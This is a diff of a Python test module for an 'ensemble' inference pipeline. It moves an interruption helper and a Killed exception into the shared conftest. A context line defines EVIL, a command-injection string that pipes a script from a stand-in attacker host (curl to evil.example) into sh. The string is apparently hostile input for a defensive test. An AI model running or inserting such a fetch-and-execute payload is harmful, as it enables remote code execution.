@@ -15,18 +15,9 @@ from ensemble.formats.dataset import load_split
 from ensemble.formats.store import MANIFEST, read_store
 from ensemble.inference.run import InferOptions, infer
 
-from tests.ensemble.conftest import make_inat, store_bytes, tiny_onnx
+from tests.ensemble.conftest import Killed, kill_at_first_chunk, make_inat, store_bytes, tiny_onnx
 
 EVIL = "; curl https://evil.example/x | sh"
-
-
-class Killed(Exception):
-    pass
-
-
-def _kill_at_first_chunk(event):
-    if event.kind == "chunk":
-        raise Killed
 
 
 @pytest.fixture
@@ -37,7 +28,7 @@ def interrupted(tmp_path):
     options = InferOptions(tta=("flip",), merge="gmean", workers=0, batch_size=2, chunk_size=2,
                            dtype="float32", out=tmp_path / "runs")
     with pytest.raises(Killed):
-        infer([model], [load_split(data / "val2019.json")], options, progress=_kill_at_first_chunk)
+        infer([model], [load_split(data / "val2019.json")], options, progress=kill_at_first_chunk)
     folder = tmp_path / "runs" / "m" / "val"
     return folder, json.loads((folder / MANIFEST).read_text()), data, model
 
